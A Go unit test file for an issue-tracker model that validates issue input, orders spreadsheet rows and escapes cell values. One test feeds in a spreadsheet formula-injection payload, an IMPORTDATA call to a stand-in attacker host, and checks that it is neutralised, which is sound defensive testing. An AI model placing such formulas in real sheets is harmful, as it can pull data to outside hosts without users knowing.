package model_test

import (
	"testing"
	"time"

	"github.com/m-mizutani/goerr/v2"
	"github.com/m-mizutani/gt"
	"github.com/secmon-lab/workboard/pkg/domain/model"
	"github.com/secmon-lab/workboard/pkg/domain/types"
)

func TestIssueInputValidate(t *testing.T) {
	t.Run("valid", func(t *testing.T) {
		gt.NoError(t, model.IssueInput{Description: "Broken link", Severity: "high"}.Validate())
		gt.NoError(t, model.IssueInput{Description: "No severity"}.Validate())
	})

	t.Run("description required", func(t *testing.T) {
		err := model.IssueInput{Severity: "Low"}.Validate()
		gt.Error(t, err)
		gt.B(t, goerr.HasTag(err, model.ErrTagInvalidInput)).True()
	})

	t.Run("unknown severity", func(t *testing.T) {
		err := model.IssueInput{Description: "x", Severity: "Critical"}.Validate()
		gt.Error(t, err)
		gt.B(t, goerr.HasTag(err, model.ErrTagInvalidInput)).True()
	})
}

func TestIssueRecord(t *testing.T) {
	reported := time.Date(2024, time.May, 3, 10, 0, 0, 0, time.UTC)
	issue := model.NewIssue("ISSUE-008", reported, model.IssueInput{
		Description: "Login fails",
		Severity:    "medium",
		ReportedBy:  "Don",
	})

	gt.Equal(t, types.StatusOpen, issue.Status)
	gt.Equal(t, "Medium", issue.Severity)
	gt.Equal(t, "2024-05-03", issue.DateReported)

	t.Run("follows header order", func(t *testing.T) {
		header := []string{"Status", "Issue ID", "Owner", "Date Reported", "Severity", "Issue Description", "Reported By"}
		gt.Equal(t,
			[]string{"open", "ISSUE-008", "", "2024-05-03", "Medium", "Login fails", "Don"},
			issue.Record(header),
		)
	})

	t.Run("default header", func(t *testing.T) {
		gt.Equal(t,
			[]string{"ISSUE-008", "Login fails", "Medium", "Don", "2024-05-03", "open"},
			issue.Record(nil),
		)
	})
}

func TestIssueRecordKeepsFormulasAsText(t *testing.T) {
	reported := time.Date(2024, time.May, 3, 10, 0, 0, 0, time.UTC)
	issue := model.NewIssue("ISSUE-001", reported, model.IssueInput{
		Description: `=IMPORTDATA("https://evil.example/x")`,
		ReportedBy:  "=1+1",
	})

	gt.Equal(t,
		[]string{"ISSUE-001", `'=IMPORTDATA("https://evil.example/x")`, "", "'=1+1", "2024-05-03", "open"},
		issue.Record(nil),
	)
	// the returned row keeps what the user typed
	gt.Equal(t, `=IMPORTDATA("https://evil.example/x")`, issue.Description)
}

func TestLiteralCell(t *testing.T) {
	testCases := []struct {
		raw      string
		expected string
	}{
		{"", ""},
		{"Login fails", "Login fails"},
		{"=SUM(A1:A2)", "'=SUM(A1:A2)"},
		{"+1 555 0100", "'+1 555 0100"},
		{"-3 days late", "'-3 days late"},
		{"@here broken", "'@here broken"},
		{"a=b", "a=b"},
	}

	for _, tc := range testCases {
		t.Run(tc.raw, func(t *testing.T) {
			gt.Equal(t, tc.expected, model.LiteralCell(tc.raw))
		})
	}
}

func TestParseIssueRows(t *testing.T) {
	table := model.NewTable(model.SheetIssues, [][]string{
		model.DefaultIssueHeader,
		{"ISSUE-001", "Broken", "High", "Ann", "2024-01-02", "Open"},
		{"ISSUE-002", "Fixed", "Low", "Bob", "2024-01-03", "closed"},
	})

	rows := model.ParseIssueRows(table)
	gt.A(t, rows).Length(2)
	gt.True(t, rows[0].Status.IsOpen())
	gt.False(t, rows[1].Status.IsOpen())
	gt.Equal(t, types.IssueID("ISSUE-002"), rows[1].ID)
}
